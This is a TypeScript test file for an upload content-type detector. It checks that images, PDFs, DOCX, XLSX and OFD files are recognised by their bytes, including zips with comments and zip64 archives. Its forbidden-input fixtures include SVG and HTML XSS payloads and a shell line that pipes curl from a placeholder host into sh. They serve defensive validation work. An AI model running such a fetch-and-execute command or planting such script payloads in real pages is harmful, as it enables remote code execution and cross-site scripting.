import { randomBytes, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { strToU8, type Zippable, zipSync } from 'fflate';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { detectFileType, type FileTypeResult, fileTypes } from './content-type';

const dir = mkdtempSync(path.join(tmpdir(), 'jiaoliu-content-type-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Writes the bytes under a name that claims another type, since the name must not matter. */
function detect(bytes: Uint8Array | string, misleadingName = 'upload.jpg'): Promise<FileTypeResult> {
  const file = path.join(dir, `${randomUUID()}-${misleadingName}`);
  writeFileSync(file, bytes);
  return detectFileType(file);
}

const image = (format: 'jpeg' | 'png' | 'webp') =>
  sharp({ create: { width: 16, height: 12, channels: 3, background: '#b22' } })
    .toFormat(format)
    .toBuffer();

const minimalPdf = [
  '%PDF-1.7',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj',
  'trailer << /Root 1 0 R >>',
  '%%EOF',
  '',
].join('\n');

const relationships = (target: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`;

const contentTypes = (overrides: Record<string, string>) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
  Object.entries(overrides)
    .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
    .join('') +
  '</Types>';

const docxParts = (mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'): Zippable => ({
  '[Content_Types].xml': strToU8(contentTypes({ '/word/document.xml': mainType })),
  '_rels/.rels': strToU8(relationships('word/document.xml')),
  'word/document.xml': strToU8('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>合作协议</w:t></w:r></w:p></w:body></w:document>'),
});

const xlsxParts = (): Zippable => ({
  '[Content_Types].xml': strToU8(
    contentTypes({
      '/xl/workbook.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
    }),
  ),
  '_rels/.rels': strToU8(relationships('xl/workbook.xml')),
  'xl/workbook.xml': strToU8('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="交流" sheetId="1"/></sheets></workbook>'),
  'xl/worksheets/sheet1.xml': strToU8('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'),
});

const ofdParts = (): Zippable => ({
  'OFD.xml': strToU8('<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>'),
  'Doc_0/Document.xml': strToU8('<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID></ofd:CommonData></ofd:Document>'),
});

/** A zip with a comment after its end record, which puts that record before the file's last 22 bytes. */
function withComment(zip: Uint8Array, comment: string): Buffer {
  const text = Buffer.from(comment);
  const copy = Buffer.from(zip);
  copy.writeUInt16LE(text.length, copy.length - 2);
  return Buffer.concat([copy, text]);
}

/**
 * The same zip in its 64-bit form, as writers make for archives over 4 GiB or always: the end record's
 * fields saturated and pointing to a zip64 end record, and each entry's offset in a zip64 extra field.
 */
function asZip64(zip: Uint8Array): Buffer {
  const bytes = Buffer.from(zip);
  const end = bytes.length - 22;
  const count = bytes.readUInt16LE(end + 10);
  const directoryOffset = bytes.readUInt32LE(end + 16);
  const entries: Buffer[] = [];
  for (let at = directoryOffset, index = 0; index < count; index++) {
    const length = 46 + bytes.readUInt16LE(at + 28) + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
    const entry = Buffer.from(bytes.subarray(at, at + length));
    const extra = Buffer.alloc(12);
    extra.writeUInt16LE(0x0001, 0);
    extra.writeUInt16LE(8, 2);
    extra.writeBigUInt64LE(BigInt(entry.readUInt32LE(42)), 4);
    entry.writeUInt32LE(0xffffffff, 42);
    entry.writeUInt16LE(entry.readUInt16LE(30) + extra.length, 30);
    const nameEnd = 46 + entry.readUInt16LE(28);
    const extraEnd = nameEnd + entry.readUInt16LE(30) - extra.length;
    entries.push(Buffer.concat([entry.subarray(0, extraEnd), extra, entry.subarray(extraEnd)]));
    at += length;
  }
  const directory = Buffer.concat(entries);
  const recordOffset = directoryOffset + directory.length;
  const record = Buffer.alloc(56);
  record.writeUInt32LE(0x06064b50, 0);
  record.writeBigUInt64LE(44n, 4);
  record.writeUInt16LE(45, 12);
  record.writeUInt16LE(45, 14);
  record.writeBigUInt64LE(BigInt(count), 24);
  record.writeBigUInt64LE(BigInt(count), 32);
  record.writeBigUInt64LE(BigInt(directory.length), 40);
  record.writeBigUInt64LE(BigInt(directoryOffset), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(recordOffset), 8);
  locator.writeUInt32LE(1, 16);
  const endRecord = Buffer.from(bytes.subarray(end));
  endRecord.writeUInt16LE(0xffff, 8);
  endRecord.writeUInt16LE(0xffff, 10);
  endRecord.writeUInt32LE(0xffffffff, 12);
  endRecord.writeUInt32LE(0xffffffff, 16);
  return Buffer.concat([bytes.subarray(0, directoryOffset), directory, record, locator, endRecord]);
}

describe('a file type decided from content', () => {
  it.each(['jpeg', 'png', 'webp'] as const)('takes a %s image, whatever its name says', async (format) => {
    expect(await detect(await image(format), 'agreement.pdf')).toEqual({ ok: true, type: fileTypes[format] });
  });

  it('takes a PDF', async () => {
    expect(await detect(minimalPdf, 'photo.png')).toEqual({ ok: true, type: fileTypes.pdf });
  });

  it.each([
    ['deflated', 6],
    ['stored', 0],
  ] as const)('takes a DOCX with its parts %s', async (_, level) => {
    expect(await detect(zipSync(docxParts(), { level }), 'scan.jpg')).toEqual({ ok: true, type: fileTypes.docx });
  });

  it('takes an XLSX', async () => {
    expect(await detect(zipSync(xlsxParts()))).toEqual({ ok: true, type: fileTypes.xlsx });
  });

  it('takes an OFD document', async () => {
    expect(await detect(zipSync(ofdParts()), 'document.pdf')).toEqual({ ok: true, type: fileTypes.ofd });
  });

  it('finds the directory of a zip with a comment, and of one larger than the part it reads', async () => {
    expect(await detect(withComment(zipSync(docxParts()), '签署于淄博 '.repeat(2000)))).toEqual({ ok: true, type: fileTypes.docx });
    const withPhoto = zipSync({ ...docxParts(), 'word/media/image1.jpeg': [randomBytes(3 * 1024 * 1024), { level: 0 }] });
    expect(await detect(withPhoto)).toEqual({ ok: true, type: fileTypes.docx });
  });

  it('reads a zip in its 64-bit form', async () => {
    expect(await detect(asZip64(zipSync(docxParts())))).toEqual({ ok: true, type: fileTypes.docx });
    expect(await detect(asZip64(zipSync(ofdParts())))).toEqual({ ok: true, type: fileTypes.ofd });
  });

  it.each<[string, Uint8Array | string]>([
    ['SVG', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'],
    ['SVG without a declaration', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['HTML after a byte-order mark and blank lines', '\ufeff\n\n  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>'],
    ['HTML in lower case', '<html><img src=x onerror=alert(1)></html>'],
    ['a shell script named .jpg', '#!/bin/sh\ncurl http://example.invalid/x | sh\n'],
    ['an ELF executable', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)])],
    ['a Windows executable', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)])],
  ])('forbids %s', async (_, bytes) => {
    expect(await detect(bytes)).toEqual({ ok: false, reason: 'forbidden' });
  });

  it('forbids Office files with macros', async () => {
    const docm = zipSync({
      ...docxParts('application/vnd.ms-word.document.macroEnabled.main+xml'),
      'word/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
    });
    expect(await detect(docm, 'agreement.docx')).toEqual({ ok: false, reason: 'forbidden' });
    // Named like an ordinary document, with the project under another name: its content types tell.
    const renamedProject = zipSync(docxParts('application/vnd.ms-word.document.macroEnabled.main+xml'));
    expect(await detect(renamedProject, 'agreement.docx')).toEqual({ ok: false, reason: 'forbidden' });
    const projectOnly = zipSync({ ...xlsxParts(), 'xl/vbaProject.bin': new Uint8Array([1, 2, 3]) });
    expect(await detect(projectOnly, 'budget.xlsx')).toEqual({ ok: false, reason: 'forbidden' });
  });

  it('refuses an empty file', async () => {
    expect(await detect(new Uint8Array(0))).toEqual({ ok: false, reason: 'empty' });
  });

  it.each<[string, Uint8Array | string]>([
    ['plain text', 'echo hello\n'],
    ['random bytes', randomBytes(4096)],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
    ['a RIFF file that is not WebP', Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'), Buffer.alloc(32)])],
    ['a zip of other things', zipSync({ 'notes.txt': strToU8('hello') })],
    [
      'a PowerPoint file',
      zipSync({
        '[Content_Types].xml': strToU8(contentTypes({ '/ppt/presentation.xml': 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml' })),
      }),
    ],
    ['a zip cut short', zipSync(docxParts()).subarray(0, 200)],
    ['a zip whose directory points past its end', corruptDirectoryOffset(zipSync(docxParts()))],
  ])('does not know %s', async (_, bytes) => {
    expect(await detect(bytes)).toEqual({ ok: false, reason: 'unknown' });
  });
});

function corruptDirectoryOffset(zip: Uint8Array): Buffer {
  const copy = Buffer.from(zip);
  copy.writeUInt32LE(0x7fffffff, copy.length - 6);
  return copy;
}
